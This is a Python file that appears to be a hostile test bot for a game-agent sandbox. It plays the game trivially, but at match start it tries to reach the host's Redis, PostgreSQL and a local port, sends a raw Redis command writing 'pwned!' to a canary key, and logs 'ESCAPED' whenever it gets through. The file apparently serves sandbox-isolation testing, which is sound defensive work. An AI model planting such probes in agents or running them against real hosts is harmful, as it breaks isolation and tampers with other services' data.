"""Attack: connects to the host's services (Redis, PostgreSQL, a port the test listens on)."""

import socket
import sys

from cow006 import Agent


def attempt(family, addr, payload=b""):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
    except OSError as exc:
        return f"socket: {exc}"
    try:
        s.settimeout(0.5)
        s.connect(addr)
        if payload:
            s.sendall(payload)
        print(f"ESCAPED: connected to {addr}", file=sys.stderr, flush=True)
        return "connected"
    except OSError as exc:
        return f"connect: {exc}"
    finally:
        s.close()


class Bot(Agent):
    def on_match_start(self, info):
        print("ATTACK connect_local", file=sys.stderr, flush=True)
        key = info.settings.get("redis_key", "cow006:hostile:canary")
        resp = f"*3\r\n$3\r\nSET\r\n${len(key)}\r\n{key}\r\n$6\r\npwned!\r\n".encode()
        targets = [
            (socket.AF_INET, ("127.0.0.1", 6379), resp),
            (socket.AF_INET, ("127.0.0.1", 5432), b""),
            (socket.AF_INET, ("127.0.0.1", int(info.settings.get("port", 1))), b"hello"),
            (socket.AF_INET6, ("::1", 6379), resp),
        ]
        for family, addr, payload in targets:
            print(f"connect_local: {addr}: {attempt(family, addr, payload)}", file=sys.stderr)
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect("/var/run/redis/redis-server.sock")
            print("ESCAPED: reached the Redis unix socket", file=sys.stderr, flush=True)
        except OSError as exc:
            print(f"connect_local: redis unix socket: {exc}", file=sys.stderr, flush=True)

    def play(self, view):
        return min(view.hand)
